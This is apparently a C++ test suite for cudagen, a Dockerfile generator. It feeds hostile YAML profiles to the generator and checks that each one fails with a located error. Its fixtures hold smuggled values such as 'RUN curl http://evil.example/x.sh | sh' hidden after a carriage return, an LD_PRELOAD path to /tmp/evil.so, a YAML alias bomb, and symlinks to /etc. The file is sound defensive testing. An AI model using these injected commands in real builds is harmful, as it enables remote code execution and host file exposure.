// Hostile input, table-driven: each case is a profile (and the files it
// names, and the command line) written by an attacker or a careless user. Each
// must fail with exit 2 and its exact first diagnostic, location included, and
// leave the output folder exactly as it was (no staging folder either).
#include "unit/test_files.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <sstream>
#include <stdexcept>

namespace {

namespace fs = std::filesystem;

const std::string k_base = "name: demo\ncuda: \"13.0\"\nos: ubuntu24.04\n";  // lines 1-3

struct HostileCase {
    std::string name;
    std::string profile;   // appended to k_base
    std::string expected;  // the first line cudagen prints on stderr
    std::string args = "p.yaml -o out";
    std::function<void(const fs::path&)> prepare = {};
};

std::map<std::string, std::string> snapshot(const fs::path& folder)
{
    std::map<std::string, std::string> files;
    for (const auto& entry : fs::recursive_directory_iterator(folder)) {
        std::string key = fs::relative(entry.path(), folder).string();
        files[key] = entry.is_regular_file() ? cudagen::test::read_text(entry.path())
                                             : std::string("<") + (entry.is_directory() ? "dir" : "other") + ">";
    }
    return files;
}

std::string long_value(std::size_t bytes)
{
    return std::string(bytes, 'a');
}

std::string alias_bomb()
{
    std::string text = "a: &a [x, x, x, x, x, x, x, x, x, x]\n";
    for (char c = 'b'; c <= 'h'; ++c) {
        std::string prev(1, static_cast<char>(c - 1));
        text += std::string(1, c) + ": &" + std::string(1, c) + " [*" + prev + ", *" + prev + ", *" + prev + ", *" +
                prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + "]\n";
    }
    return text;
}

std::string deep_flow(int depth)
{
    return std::string(static_cast<std::size_t>(depth), '[') + std::string(static_cast<std::size_t>(depth), ']');
}

// A profile that names a requirements file (lines 4-5), and the files it holds.
HostileCase with_requirements(std::string name, std::map<std::string, std::string> files, std::string expected)
{
    return {std::move(name), "pip:\n  requirements: requirements.txt\n", std::move(expected), "p.yaml -o out",
            [files = std::move(files)](const fs::path& d) {
                for (const auto& [path, text] : files) {
                    cudagen::test::write_text(d / path, text);
                }
            }};
}

HostileCase with_environment(std::string name, std::string environment, std::string expected)
{
    return {std::move(name), "conda:\n  environment: env.yml\n", std::move(expected), "p.yaml -o out",
            [environment = std::move(environment)](const fs::path& d) {
                cudagen::test::write_text(d / "env.yml", environment);
            }};
}

const std::string k_in_layer =
    "the file is copied into the image to install from, so the secret would stay in a layer "
    "[secret/credentials-in-url]";
const std::string k_in_dockerfile =
    "the URL is written into the Dockerfile, so the secret would stay in the image's history "
    "[secret/credentials-in-url]";
const std::string k_env_pip = "name: demo\ndependencies:\n  - python=3.12\n  - pip\n  - pip:\n";  // items on line 6

// Secrets in the URLs of the files a profile names, and in pip.packages: an error at the URL.
void add_secret_cases(std::vector<HostileCase>& cases)
{
    cases.push_back(with_requirements(
        "RequirementsIndexUrlWithPassword",
        {{"requirements.txt", "--index-url https://alice:s3cret@pypi.corp.example/simple\nnumpy==2.1.0\n"}},
        "requirements.txt:1:13: error: requirements.txt --index-url carries a user name and password: " + k_in_layer));
    cases.push_back(with_requirements(
        "RequirementsShortIndexOptionWithToken",
        {{"requirements.txt", "numpy==2.1.0\n-i https://glpat-XYZ@gitlab.example/simple\n"}},
        "requirements.txt:2:4: error: requirements.txt -i carries a user name or token: " + k_in_layer));
    cases.push_back(with_requirements(
        "RequirementsExtraIndexInlineValue",
        {{"requirements.txt", "--extra-index-url=https://ci:pw@pkgs.example/simple\n"}},
        "requirements.txt:1:19: error: requirements.txt --extra-index-url carries a user name and password: " +
            k_in_layer));
    cases.push_back(with_requirements(
        "RequirementsFindLinksTokenQuery",
        {{"requirements.txt", "--find-links https://wheels.example/?private_token=abc\n"}},
        "requirements.txt:1:14: error: requirements.txt --find-links carries a 'private_token' query parameter: " +
            k_in_layer));
    cases.push_back(with_requirements(
        "IncludedRequirementsExtraIndexWithToken",
        {{"requirements.txt", "-r base.txt\n"},
         {"base.txt", "# mirror\n--extra-index-url https://tok@pkgs.example/simple\n"}},
        "base.txt:2:19: error: base.txt --extra-index-url carries a user name or token: " + k_in_layer));
    cases.push_back(with_requirements(
        "ConstraintsFileIndexWithPassword",
        {{"requirements.txt", "-c constraints.txt\nnumpy\n"},
         {"constraints.txt", "--index-url https://u:p@pypi.corp.example/simple\nnumpy==2.1.0\n"}},
        "constraints.txt:1:13: error: constraints.txt --index-url carries a user name and password: " + k_in_layer));
    cases.push_back(with_requirements(
        "VcsRequirementWithToken",
        {{"requirements.txt", "git+https://x-access:ghp_abc@github.com/org/repo.git#egg=repo\n"}},
        "requirements.txt:1:1: error: requirements.txt requirement carries a user name and password: " + k_in_layer));
    cases.push_back(with_requirements(
        "EditableVcsRequirementWithToken",
        {{"requirements.txt", "-e git+https://ghp_abc@github.com/org/repo.git#egg=repo\n"}},
        "requirements.txt:1:4: error: requirements.txt requirement carries a user name or token: " + k_in_layer));
    cases.push_back(with_requirements(
        "DirectUrlRequirementWithToken",
        {{"requirements.txt", "pkg @ https://tok@files.example/pkg-1.0-py3-none-any.whl\n"}},
        "requirements.txt:1:7: error: requirements.txt requirement carries a user name or token: " + k_in_layer));
    cases.push_back(with_requirements(
        "DirectUrlRequirementWithTokenParameter",
        {{"requirements.txt", "numpy\npkg @ https://files.example/pkg-1.0.tar.gz?token=abc ; python_version>'3'\n"}},
        "requirements.txt:2:7: error: requirements.txt requirement carries a 'token' query parameter: " + k_in_layer));
    cases.push_back(with_requirements(
        "ContinuedLineIndexWithPassword",
        {{"requirements.txt", "--extra-index-url \\\n  https://u:p@pkgs.example/simple\n"}},
        "requirements.txt:2:3: error: requirements.txt --extra-index-url carries a user name and password: " +
            k_in_layer));
    cases.push_back(
        with_environment("EnvironmentChannelWithPassword",
                         "name: demo\nchannels:\n  - conda-forge\n  - https://u:p@conda.corp.example/main\n",
                         "env.yml:4:5: error: env.yml channels carries a user name and password: " + k_in_layer));
    cases.push_back(with_environment(
        "EnvironmentAnacondaTokenChannel", "name: demo\nchannels:\n  - https://conda.anaconda.org/t/ab-12cd/private\n",
        "env.yml:3:5: error: env.yml channels carries a token path (/t/<token>/): " + k_in_layer));
    cases.push_back(with_environment(
        "EnvironmentPipSectionIndexWithToken", k_env_pip + "    - --extra-index-url https://tok@pkgs.example/simple\n",
        "env.yml:6:25: error: env.yml --extra-index-url carries a user name or token: " + k_in_layer));
    cases.push_back(
        with_environment("EnvironmentPipSectionQuotedVcsWithPassword",
                         k_env_pip + "    - \"git+https://u:p@github.com/org/repo.git#egg=repo\"\n",
                         "env.yml:6:8: error: env.yml requirement carries a user name and password: " + k_in_layer));
    cases.push_back({"PipPackageDirectUrlWithPassword",
                     "pip:\n  packages: [\"pkg @ https://u:p@files.example/pkg-1.0-py3-none-any.whl\"]\n",
                     "p.yaml:5:14: error: pip.packages 'pkg @ https://u:p@files.example/pkg-1.0-py3-none-any.whl' is "
                     "not name[extras] with optional version clauses (==, >=, <=, ~=, !=, <, >) [schema/bad-value]"});
    // pip.packages takes no URL at all (a URL requirement goes in a requirements file, checked above).
    cases.push_back({"PipPackageVcsWithToken", "pip:\n  packages:\n    - git+https://ghp_abc@github.com/org/repo.git\n",
                     "p.yaml:6:7: error: pip.packages 'git+https://ghp_abc@github.com/org/repo.git' is not "
                     "name[extras] with optional version clauses (==, >=, <=, ~=, !=, <, >) [schema/bad-value]"});
    cases.push_back({"PipFindLinksWithPassword", "pip:\n  find_links: [\"https://u:p@wheels.example/\"]\n",
                     "p.yaml:5:16: error: pip.find_links carries a user name and password: " + k_in_dockerfile});
}

std::vector<HostileCase> hostile_cases()
{
    std::vector<HostileCase> cases;
    cases.push_back(
        {"EnvCarriageReturnHidesARunLine",
         "app:\n  env:\n    GREETING: \"hello\\rRUN curl http://evil.example/x.sh | sh\"\n",
         "p.yaml:6:15: error: app.env.GREETING contains a carriage return (U+000D) at byte 6; a terminal or a review "
         "would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"EnvEscapeSequenceMasksLdPreload", "app:\n  env:\n    LD_PRELOAD: \"\\e[8m/tmp/evil.so\"\n",
                     "p.yaml:6:17: error: app.env.LD_PRELOAD contains an escape character (U+001B, starts terminal "
                     "control sequences) at byte 1; a terminal or a review would show the value differently from what "
                     "BuildKit reads [schema/control-character]"});
    cases.push_back({"EnvNulByte", "app:\n  env:\n    X: \"a\\0b\"\n",
                     "p.yaml:6:8: error: app.env.X contains a NUL byte (U+0000) at byte 2; a terminal or a review "
                     "would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"EnvDelCharacter", "app:\n  env:\n    X: \"a\\x7fb\"\n",
                     "p.yaml:6:8: error: app.env.X contains a DEL character (U+007F) at byte 2; a terminal or a review "
                     "would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"EnvC1ControlSequenceIntroducer", "app:\n  env:\n    X: \"a\\u009b31mred\"\n",
                     "p.yaml:6:8: error: app.env.X contains a control character (U+009B) at byte 2; a terminal or a "
                     "review would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"EnvTab", "app:\n  env:\n    X: \"a\\tb\"\n",
                     "p.yaml:6:8: error: app.env.X contains a tab (U+0009) at byte 2; a terminal or a review would "
                     "show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back(
        {"CmdRightToLeftOverride", "app:\n  cmd: [\"/bin/echo\", \"safe\\u202e\"]\n",
         "p.yaml:5:22: error: app.cmd contains a bidirectional text control (U+202E) at byte 5; a terminal or a review "
         "would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"CmdLineSeparator", "app:\n  cmd: [\"/bin/echo\", \"a\\Lb\"]\n",
                     "p.yaml:5:22: error: app.cmd contains a line separator (U+2028) at byte 2; a terminal or a review "
                     "would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"CmdNewline", "app:\n  cmd: [\"/bin/echo\", \"a\\nRUN evil\"]\n",
                     "p.yaml:5:22: error: app.cmd contains a newline (U+000A) at byte 2; a terminal or a review would "
                     "show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"EntrypointEscape", "app:\n  entrypoint: [\"/bin/sh\\e[2K\"]\n",
                     "p.yaml:5:16: error: app.entrypoint contains an escape character (U+001B, starts terminal control "
                     "sequences) at byte 8; a terminal or a review would show the value differently from what BuildKit "
                     "reads [schema/control-character]"});
    cases.push_back(
        {"EntrypointFirstStrongIsolate", "app:\n  entrypoint: [\"/bin/sh\", \"\\u2068x\"]\n",
         "p.yaml:5:27: error: app.entrypoint contains a bidirectional text control (U+2068) at byte 1; a terminal or a "
         "review would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"BuildRunCarriageReturn", "build:\n  run: [\"make\\rcurl evil | sh\"]\n",
                     "p.yaml:5:9: error: build.run contains a carriage return (U+000D) at byte 5; a terminal or a "
                     "review would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"BuildRunEscape", "build:\n  run: [\"make \\e[1A\"]\n",
                     "p.yaml:5:9: error: build.run contains an escape character (U+001B, starts terminal control "
                     "sequences) at byte 6; a terminal or a review would show the value differently from what BuildKit "
                     "reads [schema/control-character]"});
    cases.push_back({"AptNewline", "apt: [\"curl\\nwget\"]\n",
                     "p.yaml:4:7: error: apt contains a newline (U+000A) at byte 5; a terminal or a review would show "
                     "the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"TagEscape", "image:\n  tags: [\"demo:\\e[0m\"]\n",
                     "p.yaml:5:10: error: image.tags contains an escape character (U+001B, starts terminal control "
                     "sequences) at byte 6; a terminal or a review would show the value differently from what BuildKit "
                     "reads [schema/control-character]"});
    cases.push_back({"WorkdirCarriageReturn", "app:\n  workdir: \"/app\\r\"\n",
                     "p.yaml:5:12: error: app.workdir contains a carriage return (U+000D) at byte 5; a terminal or a "
                     "review would show the value differently from what BuildKit reads [schema/control-character]"});
    cases.push_back({"NameNulByte", "",
                     "n.yaml:1:7: error: name contains a NUL byte (U+0000) at byte 3; a terminal or a review would "
                     "show the value differently from what BuildKit reads [schema/control-character]",
                     "n.yaml -o out", [](const fs::path& d) {
                         cudagen::test::write_text(d / "n.yaml", std::string("name: \"de\\0mo\"\n"));
                     }});
    cases.push_back({"EnvNameEscapeInKeyIsShownEscaped", "app:\n  env:\n    \"X\\e[31m\": \"1\"\n",
                     "p.yaml:6:5: error: app.env contains an escape character (U+001B, starts terminal control "
                     "sequences) at byte 2; a terminal or a review would show the value differently from what BuildKit "
                     "reads [schema/control-character]"});
    cases.push_back({"UnknownKeyWithEscapeIsShownEscaped", "\"na\\e[2Jme\": x\n",
                     "p.yaml:4:1: error: unknown key 'na\\x1b[2Jme' at the top level [schema/unknown-key]"});
    cases.push_back({"EnvValueOverTheLineLimit", "app:\n  env:\n    BIG: \"" + long_value(70000) + "\"\n",
                     "p.yaml:6:10: error: app.env.BIG is 70000 bytes long; BuildKit refuses Dockerfile lines over "
                     "65535 bytes, so values are limited to 64511 [schema/too-long]"});
    cases.push_back({"RunCommandOverTheLineLimit", "build:\n  run: [\"" + long_value(65536) + "\"]\n",
                     "p.yaml:5:9: error: build.run is 65536 bytes long; BuildKit refuses Dockerfile lines over 65535 "
                     "bytes, so values are limited to 64511 [schema/too-long]"});
    cases.push_back({"CmdItemOverTheLineLimit", "app:\n  cmd: [\"" + long_value(64512) + "\"]\n",
                     "p.yaml:5:9: error: app.cmd is 64512 bytes long; BuildKit refuses Dockerfile lines over 65535 "
                     "bytes, so values are limited to 64511 [schema/too-long]"});
    cases.push_back({"CopySourceVariable", "build:\n  copy:\n    - {src: \"$NOPE\", dst: /src}\n",
                     "p.yaml:6:13: error: build.copy '$NOPE' contains '$', which BuildKit expands as a variable in a "
                     "COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back({"CopySourceBraceVariable", "app:\n  copy:\n    - {src: \"${HOME}/x\", dst: /app}\n",
                     "p.yaml:6:13: error: app.copy '${HOME}/x' contains '$', which BuildKit expands as a variable in a "
                     "COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back({"CopySourceStar", "build:\n  copy:\n    - {src: \"*\", dst: /src}\n",
                     "p.yaml:6:13: error: build.copy '*' contains '*', which BuildKit expands as a wildcard in a COPY "
                     "source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back({"CopySourceQuestionMark", "build:\n  copy:\n    - {src: \"a?c\", dst: /src}\n",
                     "p.yaml:6:13: error: build.copy 'a?c' contains '?', which BuildKit expands as a wildcard in a "
                     "COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back({"CopySourceBracket", "app:\n  copy:\n    - {src: \"[ab].txt\", dst: /app}\n",
                     "p.yaml:6:13: error: app.copy '[ab].txt' contains '[', which BuildKit expands as a wildcard in a "
                     "COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back(
        {"CopySourceSingleQuote", "build:\n  copy:\n    - {src: \"it's.txt\", dst: /src}\n",
         "p.yaml:6:13: error: build.copy 'it's.txt' contains ''', which BuildKit reads as a quote or escape in a COPY "
         "source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back(
        {"CopySourceDoubleQuote", "build:\n  copy:\n    - {src: \"say\\\"hi\\\".txt\", dst: /src}\n",
         "p.yaml:6:13: error: build.copy 'say\"hi\".txt' contains '\"', which BuildKit reads as a quote or escape in a "
         "COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back({"CopySourceBackslash", "build:\n  copy:\n    - {src: 'a\\b', dst: /src}\n",
                     "p.yaml:6:13: error: build.copy 'a\\b' contains '\\', which BuildKit reads as a quote or escape "
                     "in a COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back({"CopySourceBacktick", "build:\n  copy:\n    - {src: \"`id`\", dst: /src}\n",
                     "p.yaml:6:13: error: build.copy '`id`' contains '`', which BuildKit reads as a quote or escape in "
                     "a COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back(
        {"RequirementsFileVariable", "pip:\n  requirements: \"req$X.txt\"\n",
         "p.yaml:5:17: error: pip.requirements 'req$X.txt' contains '$', which BuildKit expands as a variable in a "
         "COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back(
        {"EnvironmentFileGlob", "conda:\n  environment: \"env*.yml\"\n",
         "p.yaml:5:16: error: conda.environment 'env*.yml' contains '*', which BuildKit expands as a wildcard in a "
         "COPY source, so the image would get other files than the path names [schema/copy-source]"});
    cases.push_back(
        {"ArtifactSourceGlob", "build:\n  artifacts:\n    - {src: \"/src/*\", dst: /app}\n",
         "p.yaml:6:13: error: build.artifacts '/src/*' is not an absolute path in the image [schema/bad-value]"});
    cases.push_back({"AptTrailingDashRemovesPackage", "apt: [curl, \"openssl-\"]\n",
                     "p.yaml:4:13: error: apt 'openssl-' ends with '-', which tells apt-get install to remove the "
                     "package [schema/bad-value]"});
    cases.push_back({"AptBuildTrailingDash", "apt_build: [\"cmake-\"]\n",
                     "p.yaml:4:13: error: apt_build 'cmake-' ends with '-', which tells apt-get install to remove the "
                     "package [schema/bad-value]"});
    cases.push_back({"UserDoubleZeroIsRoot", "app:\n  user: \"00\"\n",
                     "p.yaml:5:9: error: app.user '00' is uid 0, root [schema/bad-value]"});
    cases.push_back({"UserLeadingZeros", "app:\n  user: \"0010\"\n",
                     "p.yaml:5:9: error: app.user '0010' is a uid with leading zeros [schema/bad-value]"});
    cases.push_back(
        {"TagWithoutTagPartIsLatest", "image:\n  tags: [\"{name}\"]\n",
         "p.yaml:5:10: error: tag '{name}' has no ':tag' part, so Docker would tag it :latest [schema/bad-value]"});
    cases.push_back({"RegistryTagWithoutTagPart", "image:\n  tags: [\"ghcr.io/acme/{name}\"]\n",
                     "p.yaml:5:10: error: tag 'ghcr.io/acme/{name}' has no ':tag' part, so Docker would tag it :latest "
                     "[schema/bad-value]"});
    cases.push_back({"RegistryPortIsNotATag", "image:\n  tags: [\"localhost:5000/{name}\"]\n",
                     "p.yaml:5:10: error: image.tags 'localhost:5000/{name}' is not repository[:tag] with {name}, "
                     "{cuda}, {os}, {framework}, {framework_version} [schema/bad-value]"});
    cases.push_back({"EnvTrailingBackslash", "app:\n  env:\n    WINPATH: 'C:\\'\n",
                     "p.yaml:6:14: error: app.env.WINPATH has a backslash at its end; written as an ENV value, "
                     "hadolint and other Dockerfile parsers cannot read it [schema/env-backslash]"});
    cases.push_back({"EnvBackslashBeforeQuote", "app:\n  env:\n    X: 'a\\\"b'\n",
                     "p.yaml:6:8: error: app.env.X has a backslash before a '\"'; written as an ENV value, hadolint "
                     "and other Dockerfile parsers cannot read it [schema/env-backslash]"});
    cases.push_back(
        {"WorkdirVariable", "app:\n  workdir: \"/app/$HOME\"\n",
         "p.yaml:5:12: error: app.workdir '/app/$HOME' is not an absolute path in the image [schema/bad-value]"});
    cases.push_back({"EnvNameVariable", "app:\n  env:\n    \"$X\": \"1\"\n",
                     "p.yaml:6:5: error: app.env '$X' is not `[A-Za-z_][A-Za-z0-9_]*` [schema/bad-value]"});
    cases.push_back({"ProfileIsAFolder", "",
                     "dir.yaml: error: 'dir.yaml' is a folder, not a regular file [io/not-a-file]", "dir.yaml -o out",
                     [](const fs::path& d) { fs::create_directory(d / "dir.yaml"); }});
    cases.push_back({"ProfileIsAFifo", "",
                     "fifo.yaml: error: 'fifo.yaml' is a FIFO (named pipe), not a regular file [io/not-a-file]",
                     "fifo.yaml -o out", [](const fs::path& d) { ::mkfifo((d / "fifo.yaml").c_str(), 0600); }});
    cases.push_back({"ProfileIsACharacterDevice", "",
                     "zero.yaml: error: 'zero.yaml' is a character device, not a regular file [io/not-a-file]",
                     "zero.yaml -o out", [](const fs::path& d) { fs::create_symlink("/dev/zero", d / "zero.yaml"); }});
    cases.push_back({"ProfileTooLarge", "",
                     "big.yaml: error: 'big.yaml' is 5.0 MiB; input files are limited to 4 MiB [io/too-large]",
                     "big.yaml -o out", [](const fs::path& d) {
                         cudagen::test::write_text(d / "big.yaml", k_base + "# " + std::string(5u << 20, 'x') + "\n");
                     }});
    cases.push_back({"ProfileNestsTooDeep", "extra: " + deep_flow(100) + "\n",
                     "p.yaml:4:71: error: values nest deeper than 64 levels [yaml/too-deep]"});
    cases.push_back({"ProfileAliasBomb", "" + alias_bomb() + "",
                     "p.yaml:9:8: error: aliases expand to more than 200000 values [yaml/too-large]"});
    cases.push_back({"ProfileMissing", "",
                     "missing.yaml: error: cannot read profile 'missing.yaml': no such file [io/not-found]",
                     "missing.yaml -o out"});
    cases.push_back({"EnvironmentFileIsAFolder", "conda:\n  environment: env.yml\n",
                     "p.yaml:5:16: error: 'env.yml' is a folder, not a regular file [io/not-a-file]", "p.yaml -o out",
                     [](const fs::path& d) { fs::create_directory(d / "env.yml"); }});
    cases.push_back({"EnvironmentFileIsAFifo", "conda:\n  environment: env.yml\n",
                     "p.yaml:5:16: error: 'env.yml' is a FIFO (named pipe), not a regular file [io/not-a-file]",
                     "p.yaml -o out", [](const fs::path& d) { ::mkfifo((d / "env.yml").c_str(), 0600); }});
    cases.push_back({"EnvironmentFileTooLarge", "conda:\n  environment: env.yml\n",
                     "p.yaml:5:16: error: 'env.yml' is 5.0 MiB; input files are limited to 4 MiB [io/too-large]",
                     "p.yaml -o out", [](const fs::path& d) {
                         cudagen::test::write_text(d / "env.yml", "# " + std::string(5u << 20, 'x') + "\n");
                     }});
    cases.push_back({"EnvironmentFileAliasBomb", "conda:\n  environment: env.yml\n",
                     "env.yml:6:8: error: aliases expand to more than 200000 values [yaml/too-large]", "p.yaml -o out",
                     [](const fs::path& d) { cudagen::test::write_text(d / "env.yml", alias_bomb()); }});
    cases.push_back({"EnvironmentFileNestsTooDeep", "conda:\n  environment: env.yml\n",
                     "env.yml:1:78: error: values nest deeper than 64 levels [yaml/too-deep]", "p.yaml -o out",
                     [](const fs::path& d) {
                         cudagen::test::write_text(d / "env.yml", "dependencies: " + deep_flow(100) + "\n");
                     }});
    cases.push_back({"RequirementsFileIsAFolder", "pip:\n  requirements: reqs\n",
                     "p.yaml:5:17: error: 'reqs' is a folder, not a regular file [io/not-a-file]", "p.yaml -o out",
                     [](const fs::path& d) { fs::create_directory(d / "reqs"); }});
    cases.push_back(
        {"RequirementsFileIsAFifo", "pip:\n  requirements: requirements.txt\n",
         "p.yaml:5:17: error: 'requirements.txt' is a FIFO (named pipe), not a regular file [io/not-a-file]",
         "p.yaml -o out", [](const fs::path& d) { ::mkfifo((d / "requirements.txt").c_str(), 0600); }});
    cases.push_back({"RequirementsFileLinksOutOfTheContext", "pip:\n  requirements: requirements.txt\n",
                     "p.yaml:5:17: error: requirements file 'requirements.txt' resolves to /dev/zero, outside the "
                     "build context [path/outside-context]",
                     "p.yaml -o out",
                     [](const fs::path& d) { fs::create_symlink("/dev/zero", d / "requirements.txt"); }});
    // A folder the image copies that is a link out of the context: BuildKit would refuse it at
    // build time, or (through a link it resolves inside the context) copy the host's files.
    cases.push_back({"AppCopySourceLinksOutOfTheContext", "app:\n  copy: [{src: data, dst: /data}]\n",
                     "p.yaml:5:16: error: app.copy src 'data' resolves to /etc, outside the build context "
                     "[path/outside-context]",
                     "p.yaml -o out", [](const fs::path& d) { fs::create_directory_symlink("/etc", d / "data"); }});
    cases.push_back({"OutputDash", "",
                     "cudagen: error: -o - would write to a folder named '-'; cudagen writes a folder of files, not "
                     "one stream [usage/output-dash]",
                     "p.yaml -o -"});
    cases.push_back({"OutputSymlinkLeadsElsewhere", "",
                     "cudagen: error: output path <dir>/link is a symbolic link (to <dir>/elsewhere); cudagen does not "
                     "write through it [io/output-is-link]",
                     "p.yaml -o link", [](const fs::path& d) {
                         fs::create_directory(d / "elsewhere");
                         fs::create_symlink(d / "elsewhere", d / "link");
                     }});
    cases.push_back(
        {"OutputIsAFile", "", "cudagen: error: output path <dir>/file.txt exists and is not a folder [io/not-a-folder]",
         "p.yaml -o file.txt", [](const fs::path& d) { cudagen::test::write_text(d / "file.txt", "notes\n"); }});
    cases.push_back(
        {"OutputHoldsAHandWrittenDockerfile", "",
         "cudagen: error: <dir>/Dockerfile was not written by cudagen; replacing it would lose it [io/foreign-file]",
         "p.yaml -o .", [](const fs::path& d) { cudagen::test::write_text(d / "Dockerfile", "FROM scratch\n"); }});
    cases.push_back({"OutputSubfolderIsALink", "",
                     "cudagen: error: <dir>/mixed/demo is a symbolic link, not a folder; cudagen does not write "
                     "through it [io/not-a-folder]",
                     "p.yaml q.yaml -o mixed", [](const fs::path& d) {
                         cudagen::test::write_text(d / "q.yaml", "name: q\ncuda: \"13.0\"\nos: ubuntu24.04\n");
                         fs::create_directory(d / "mixed");
                         cudagen::test::write_text(d / "mixed" / "notes.txt", "mine\n");
                         fs::create_directory(d / "elsewhere");
                         fs::create_symlink(d / "elsewhere", d / "mixed" / "demo");
                     }});
    add_secret_cases(cases);
    return cases;
}

class HostileCorpus : public ::testing::TestWithParam<HostileCase> {
protected:
    void SetUp() override
    {
        m_dir = cudagen::test::make_temp_dir("cudagen-hostile");
        // The output folder holds a previous generation, as it would in a real project.
        cudagen::test::write_text(m_dir / "good.yaml", k_base);
        ASSERT_EQ(run("good.yaml -o out -q"), 0) << cudagen::test::read_text(m_dir / "stderr");
        fs::remove(m_dir / "good.yaml");
    }
    void TearDown() override
    {
        std::error_code ignored;
        fs::remove_all(m_dir, ignored);
    }
    int run(const std::string& args)
    {
        std::string command =
            "cd '" + m_dir.string() + "' && '" CUDAGEN_BINARY "' generate " + args + " >stdout 2>stderr </dev/null";
        int status = std::system(command.c_str());
        return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    }

    fs::path m_dir;
};

TEST_P(HostileCorpus, FailsWithItsLocatedErrorAndWritesNothing)
{
    const HostileCase& hostile = GetParam();
    cudagen::test::write_text(m_dir / "p.yaml", k_base + hostile.profile);
    if (hostile.prepare) {
        hostile.prepare(m_dir);
    }
    auto before = snapshot(m_dir / "out");
    EXPECT_EQ(run(hostile.args), 2);
    std::string stderr_text = cudagen::test::read_text(m_dir / "stderr");
    for (std::size_t at = stderr_text.find(m_dir.string()); at != std::string::npos;
         at = stderr_text.find(m_dir.string())) {
        stderr_text.replace(at, m_dir.string().size(), "<dir>");
    }
    EXPECT_EQ(stderr_text.substr(0, stderr_text.find('\n')), hostile.expected) << stderr_text;
    EXPECT_NE(stderr_text.find("  fix: "), std::string::npos) << "no fix offered:\n" << stderr_text;
    EXPECT_EQ(snapshot(m_dir / "out"), before) << "the output folder changed";
    if (fs::exists(m_dir / "elsewhere")) {
        EXPECT_TRUE(fs::is_empty(m_dir / "elsewhere")) << "cudagen wrote through a symbolic link";
    }
    for (const auto& entry : fs::directory_iterator(m_dir)) {
        EXPECT_FALSE(entry.path().filename().string().starts_with(".cudagen-staging-")) << entry.path();
    }
}

INSTANTIATE_TEST_SUITE_P(Cases, HostileCorpus, ::testing::ValuesIn(hostile_cases()),
                         [](const ::testing::TestParamInfo<HostileCase>& info) { return info.param.name; });

// Sources that weaken where packages come from without leaking a secret: the run succeeds
// and says so at the place (a warning), and an ssh user name is not mistaken for a secret.
std::vector<HostileCase> insecure_source_cases()
{
    std::vector<HostileCase> cases;
    cases.push_back(with_requirements(
        "RequirementsPlainHttpIndex", {{"requirements.txt", "--index-url http://pypi.corp.example/simple\nnumpy\n"}},
        "requirements.txt:1:13: warning: requirements.txt --index-url 'http://pypi.corp.example/simple' is fetched "
        "over plain http://: anyone on the network path can change the packages [schema/plain-http-index]"));
    cases.push_back(with_requirements(
        "RequirementsTrustedHost", {{"requirements.txt", "numpy\n--trusted-host pypi.corp.example\n"}},
        "requirements.txt:2:1: warning: requirements.txt --trusted-host pypi.corp.example turns off pip's certificate "
        "check for that host: anyone on the network path can change the packages [deps/trusted-host]"));
    cases.push_back(with_requirements(
        "RequirementsExtraIndex",
        {{"requirements.txt", "-r base.txt\n"}, {"base.txt", "--extra-index-url https://pkgs.example/simple\n"}},
        "base.txt:1:1: warning: base.txt sets --extra-index-url https://pkgs.example/simple: an index named inside a "
        "dependency file decides where packages come from, out of the profile's sight [deps/index-in-file]"));
    cases.push_back(with_environment(
        "EnvironmentPlainHttpChannel", "name: demo\nchannels:\n  - http://conda.corp.example/main\n",
        "env.yml:3:5: warning: env.yml channels 'http://conda.corp.example/main' is fetched over plain http://: anyone "
        "on the network path can change the packages [schema/plain-http-index]"));
    cases.push_back(with_environment(
        "EnvironmentPipSectionTrustedHost", k_env_pip + "    - --trusted-host pkgs.example\n",
        "env.yml:6:7: warning: env.yml --trusted-host pkgs.example turns off pip's certificate check for that host: "
        "anyone on the network path can change the packages [deps/trusted-host]"));
    cases.push_back({"ProfilePlainHttpIndexUrl", "pip:\n  index_url: http://pypi.corp.example/simple\n",
                     "p.yaml:5:14: warning: pip.index_url 'http://pypi.corp.example/simple' is fetched over plain "
                     "http://: anyone on the network path can change the packages [schema/plain-http-index]"});
    cases.push_back(with_requirements("SshUserIsNotASecret",
                                      {{"requirements.txt", "git+ssh://git@github.com/org/repo.git#egg=repo\n"}}, ""));
    return cases;
}

class InsecureSources : public HostileCorpus {};

TEST_P(InsecureSources, GenerateWarnsAtTheUrl)
{
    const HostileCase& source = GetParam();
    cudagen::test::write_text(m_dir / "p.yaml", k_base + source.profile);
    if (source.prepare) {
        source.prepare(m_dir);
    }
    EXPECT_EQ(run(source.args), 0) << cudagen::test::read_text(m_dir / "stderr");
    std::string stderr_text = cudagen::test::read_text(m_dir / "stderr");
    EXPECT_EQ(stderr_text.find("error:"), std::string::npos) << stderr_text;
    if (source.expected.empty()) {
        EXPECT_EQ(stderr_text.find("warning:"), std::string::npos) << stderr_text;
    } else {
        EXPECT_NE(stderr_text.find(source.expected + "\n"), std::string::npos) << stderr_text;
    }
}

